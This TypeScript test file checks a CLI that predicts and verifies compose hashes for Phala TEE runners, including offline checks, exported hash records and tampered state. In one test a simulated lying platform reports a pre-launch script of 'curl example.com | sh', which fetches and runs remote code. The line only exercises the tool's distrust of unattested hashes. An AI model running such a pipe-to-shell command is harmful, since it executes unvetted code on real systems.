/** `hash` through the built program: its predictions against runners that are really deployed. */
import { existsSync } from "node:fs";
import { cp, readdir, readFile, stat, writeFile } from "node:fs/promises";
import path from "node:path";
import { expect, test } from "vitest";
import { composeHashOf, type AppCompose } from "../../src/core/compose-hash.ts";
import type { HashExplanation, HashResult } from "../../src/commands/hash/result.ts";
import type { InitResult } from "../../src/commands/init/result.ts";
import type { JournalRecord } from "../../src/state/journal.ts";
import { appendRecord, journalOf } from "../helpers/journal.ts";
import { deployRunner } from "../helpers/orchestrator.ts";
import { makePreparedWorld } from "../helpers/prepared-cluster.ts";
import { COMPOSE_FOLDER, type Run, type World } from "../helpers/program.ts";
import { expectValid, type Json } from "../helpers/schemas.ts";

const ORIGINAL = path.join(COMPOSE_FOLDER, "docker-compose.phala.runner.yml");
const KEYLESS = { PHALA_API_KEY: "" };
const V1 = ["REGISTRY_URL", "CAPACITY_THRESHOLD"];
const V2 = [...V1, "MODEL_MEMORY_LIMIT_MB", "GATEWAY_AUTH_COORDINATOR_WALLET"];

const predictionOf = (run: Run): HashResult => expectValid("hash", run.stdout) as HashResult;
const failureOf = (run: Run): Json => expectValid("failure", run.stdout)["error"] as Json;

/** A runner compose file with another image in it, and the environment that names it. */
async function changedCompose(
  world: World,
): Promise<{ file: string; env: Record<string, string> }> {
  const text = await readFile(ORIGINAL, "utf8");
  const file = path.join(world.folder, "changed.yml");
  await writeFile(file, text.replace("LOG_LEVEL=INFO", "LOG_LEVEL=INFO # changed"));
  return { file, env: { TEE_CLUSTER_RUNNER_COMPOSE: file } };
}

/** Deploys a runner as the orchestrator does. @returns its name, and the hash that it really has. */
async function realRunner(
  world: World,
  file: string,
  names: readonly string[],
): Promise<{ name: string; hash: string }> {
  const environment = names.map((name) => ({ name, value: "1" }));
  const appId = await deployRunner(world.sandbox, "bird-tracker", file, environment);
  const cvm = (await world.sandbox.cloud()).cvms.find((candidate) => candidate.appId === appId);
  if (!cvm) throw new Error("no runner was deployed");
  return { name: cvm.name, hash: cvm.current.composeHash };
}

async function clusterFolder(world: World): Promise<string> {
  const [host = ""] = await readdir(world.stateDir);
  return path.join(world.stateDir, host, "bird-tracker");
}

/** Names, sizes and times of everything in the state directory. */
async function stateOf(world: World): Promise<string[]> {
  const names = await readdir(world.stateDir, { recursive: true });
  return Promise.all(
    names.toSorted().map(async (name) => {
      const { size, mtimeMs } = await stat(path.join(world.stateDir, name));
      return `${name} ${size} ${mtimeMs}`;
    }),
  );
}

test("predicts the hash that a runner then has, with the names of v1 and v2, without platform, key or a trace", async () => {
  const world = await makePreparedWorld();
  const { file, env } = await changedCompose(world);
  const [v1, v2] = [await realRunner(world, file, V1), await realRunner(world, file, V2)];
  const offline = { ...env, ...KEYLESS };
  const before = await stateOf(world);
  await world.sandbox.close();

  const check = await world.run(["hash", "--check", "--json"], offline);
  expect(check.exitCode).toBe(7);
  const result = predictionOf(check);
  expect(result).toMatchObject({
    ok: false,
    compose_hash: v1.hash,
    environment_names: V1,
    basis: { kind: "recorded", from: await clusterFolder(world) },
    approved: false,
    remedy: "tee-cluster rotate-hash",
    differences: [{ field: "docker_compose_file" }],
    compose_changes: ["-       - LOG_LEVEL=INFO", "+       - LOG_LEVEL=INFO # changed"],
    warnings: [],
  });
  expect(result.approved_compose_hashes).toEqual([result.basis.compose_hash]);

  const wallet = { ...offline, GATEWAY_AUTH_COORDINATOR_WALLET: "a-wallet" };
  const other = await world.run(["hash", "--quiet", "--orchestrator-schema", "v2"], wallet);
  expect([other.exitCode, other.stdout]).toEqual([0, v2.hash]);
  expect(other.stderr).toBe("");

  const same = await world.run(["hash", "--check"], KEYLESS);
  expect(same.exitCode).toBe(0);
  expect(same.stdout.split("\n")[0]).toBe(result.basis.compose_hash);
  expect(same.stdout).toMatch(/Approved +yes/);
  expect(await stateOf(world)).toEqual(before);
});

test("where the platform has changed, the real hash is told from the predicted one by the field, and then explained", async () => {
  const world = await makePreparedWorld();
  const { file, env } = await changedCompose(world);
  const before = await rememberAnotherScript(world);
  const predicted = predictionOf(await world.run(["hash", "--json"], env));
  const run = await world.run(["init", "--json"], env);
  expect(run.exitCode).toBe(0);
  const { runner_compose_hash: hash, warnings } = JSON.parse(run.stdout) as InitResult;
  expect(hash).not.toBe(predicted.compose_hash);
  const [warning, ...others] = warnings.filter(({ code }) => code === "prediction-differed");
  expect(others).toEqual([]);
  expect(warning?.message).toMatch(/: pre_launch_script differs: - #!\/bin\/sh \| - echo of old$/);

  const explained = await world.run(["hash", "--explain", hash.slice(0, 8), "--json"], {
    ...env,
    ...KEYLESS,
  });
  const explanation = expectValid("hash-explain", explained.stdout) as HashExplanation;
  expect(explanation).toMatchObject({
    compose_hash: hash,
    environment_names: V1,
    approved: true,
    local: { runner_compose: file, differences: [], compose_changes: [] },
    previous: {
      compose_hash: before,
      differences: [{ field: "docker_compose_file" }],
      compose_changes: ["-       - LOG_LEVEL=INFO", "+       - LOG_LEVEL=INFO # changed"],
    },
  });
  expect(composeHashOf(explanation.app_compose)).toBe(hash);
  expect(explanation.app_compose.docker_compose_file).toBe(await readFile(file, "utf8"));
  expect(explanation.read_back_at?.localeCompare(explanation.approved_at ?? "")).toBe(-1);

  const text = await world.run(["hash", "--explain", before], env);
  expect(text.stdout).toContain((await readFile(ORIGINAL, "utf8")).trimEnd());
  expect(text.stdout).toContain("+       - LOG_LEVEL=INFO # changed");
});

/** As if the platform had had another script when the newest hash was read back. @returns the hash without it. */
async function rememberAnotherScript(world: World): Promise<string> {
  const folder = await clusterFolder(world);
  const store = path.join(folder, "app-composes");
  const [name = ""] = await readdir(store);
  const hash = path.basename(name, ".json");
  const appCompose = JSON.parse(await readFile(path.join(store, name), "utf8")) as AppCompose;
  const old = { ...appCompose, pre_launch_script: "#!/bin/sh\necho of old\n" };
  await writeFile(path.join(store, `${composeHashOf(old)}.json`), JSON.stringify(old));
  const records = await journalOf(world);
  const { digest: _, ...record } = records.findLast(
    ({ type }) => type === "compose-hash",
  ) as JournalRecord & Json;
  await appendRecord(folder, { ...record, hash: composeHashOf(old) } as JournalRecord);
  return hash;
}

test("a record that is exported here decides on a machine without state; a changed one is refused", async () => {
  const world = await makePreparedWorld();
  const { env } = await changedCompose(world);
  const file = path.join(world.folder, "hash-record.json");
  const plan = await world.run(["hash", "--export", file, "--dry-run", "--json"]);
  expect(expectValid("dry-run", plan.stdout)["actions"]).toMatchObject([
    { action: "write", resource: file },
  ]);
  expect(existsSync(file)).toBe(false);
  for (const changed of [true, false]) {
    const run = await world.run(["hash", "--export", file, "--json"], KEYLESS);
    expect([run.exitCode, expectValid("hash-export", run.stdout)["changed"]]).toEqual([0, changed]);
  }
  const text = await readFile(file, "utf8");
  const record = expectValid("hash-record", text);
  const basis = (record["basis"] as Json)["compose_hash"] as string;

  await world.sandbox.close();
  // The name of the cluster is in the record.
  const fresh = {
    ...KEYLESS,
    TEE_CLUSTER_NAME: "",
    TEE_CLUSTER_STATE_DIR: path.join(world.folder, "no-state"),
  };
  const good = await world.run(["hash", "--check", "--record", file, "--json"], fresh);
  expect(good.exitCode).toBe(0);
  expect(predictionOf(good)).toMatchObject({
    ok: true,
    cluster: "bird-tracker",
    approved: true,
    basis: { kind: "record-file", compose_hash: basis, from: file },
  });
  const bad = await world.run(["hash", "--check", "--record", file], { ...fresh, ...env });
  expect(bad.exitCode).toBe(7);
  expect(bad.stdout).toMatch(/Approved +no/);
  const explained = await world.run(
    ["hash", "--explain", basis, "--record", file, "--quiet"],
    fresh,
  );
  expect(explained.stdout).toContain("spawn-service:");

  const changed = `${file}.changed`;
  await writeFile(changed, text.replace("LOG_LEVEL=INFO", "LOG_LEVEL=DEBUG"));
  const damaged = await world.run(["hash", "--check", "--json", "--record", changed], fresh);
  expect([damaged.exitCode, failureOf(damaged)["code"]]).toEqual([7, "hash-record-damaged"]);
  const elsewhere = ["--phala-api-url", "https://cloud-api.phala.network"];
  const foreign = await world.run(["hash", "--json", "--record", file, ...elsewhere], fresh);
  expect([foreign.exitCode, failureOf(foreign)["code"]]).toEqual([2, "hash-record-of-another"]);
  expect(existsSync(fresh.TEE_CLUSTER_STATE_DIR)).toBe(false);
});

test("nothing recorded: unknown without a key and without a runner; then a live runner, but none whose hash is a lie", async () => {
  const world = await makePreparedWorld();
  const { file, env } = await changedCompose(world);
  const fresh = { ...env, TEE_CLUSTER_STATE_DIR: path.join(world.folder, "no-state") };
  for (const [change, why] of [
    [{ ...fresh, ...KEYLESS }, "PHALA_API_KEY"],
    [fresh, "no runner of it that is up"],
  ] as const) {
    const run = await world.run(["hash", "--check", "--json"], change);
    expect([run.exitCode, failureOf(run)["code"]]).toEqual([7, "no-prediction-basis"]);
    expect(failureOf(run)["message"]).toContain(why);
    expect(failureOf(run)["hint"]).toContain("--record");
  }

  const older = await realRunner(world, ORIGINAL, [...V1, "DSTACK_AUTHORIZED_KEYS"]);
  const newer = await realRunner(world, file, V1);
  const honest = predictionOf(await world.run(["hash", "--json"], fresh));
  expect(honest).toMatchObject({
    ok: true,
    compose_hash: newer.hash,
    basis: { kind: "live-runner", from: newer.name, compose_hash: newer.hash, at: null },
    approved: null,
    approved_compose_hashes: [],
  });

  const { cvms } = await world.sandbox.cloud();
  // The measured text of the attestation would tell what it really is.
  const lieAbout = (name: string) => {
    const cvm = `/cvms/${cvms.find((it) => it.name === name)?.vmUuid}`;
    const script = { pre_launch_script: "curl example.com | sh" };
    return [
      { path: `${cvm}/compose_file$`, action: { kind: "lie" as const, fields: script } },
      { path: `${cvm}/attestation$`, action: { kind: "status" as const, status: 404 } },
    ];
  };
  world.sandbox.setFaults(lieAbout(newer.name));
  const careful = await world.run(["hash", "--check", "--json"], fresh);
  // Whether it is approved is not known: never 0.
  expect(careful.exitCode).toBe(7);
  expect(predictionOf(careful)).toMatchObject({
    ok: false,
    compose_hash: newer.hash,
    basis: { from: older.name, compose_hash: older.hash },
    differences: [{ field: "allowed_envs" }, { field: "docker_compose_file" }],
    warnings: [{ code: "runner-hash-unchecked" }],
  });
  world.sandbox.setFaults([...lieAbout(newer.name), ...lieAbout(older.name)]);
  const nobody = await world.run(["hash", "--json"], fresh);
  expect(nobody.exitCode).toBe(7);
  expect(failureOf(nobody)["message"]).toContain(newer.name);
  expect(existsSync(fresh.TEE_CLUSTER_STATE_DIR)).toBe(false);
});

test("a recorded text that was changed is not believed, no file but a hash record is replaced, and nothing is made", async () => {
  const world = await makePreparedWorld();
  const store = path.join(await clusterFolder(world), "app-composes");
  const [name = ""] = await readdir(store);
  const hash = path.basename(name, ".json");
  const compose = path.join(world.folder, "compose.yml");
  await cp(ORIGINAL, compose);
  world.sandbox.resetRequests();
  const [inTheWay, both] = await Promise.all([
    world.run(["hash", "--json", "--export", compose]),
    world.run(["hash", "--json", "--explain", hash, "--check"]),
  ]);
  expect([inTheWay.exitCode, failureOf(inTheWay)["code"]]).toEqual([6, "hash-record-in-the-way"]);
  expect([both.exitCode, failureOf(both)["code"]]).toEqual([2, "usage"]);
  expect(await readFile(compose, "utf8")).toContain("spawn-service");

  const text = await readFile(path.join(store, name), "utf8");
  await writeFile(path.join(store, name), text.replace("LOG_LEVEL=INFO", "LOG_LEVEL=DEBUG"));
  const spoilt = await world.run(["hash", "--json", "--explain", hash]);
  expect([spoilt.exitCode, failureOf(spoilt)["code"]]).toEqual([7, "app-compose-missing"]);
  const baseless = await world.run(["hash", "--json"], KEYLESS);
  expect([baseless.exitCode, failureOf(baseless)["code"]]).toEqual([7, "no-prediction-basis"]);
  expect(world.sandbox.requests()).toEqual([]);
});
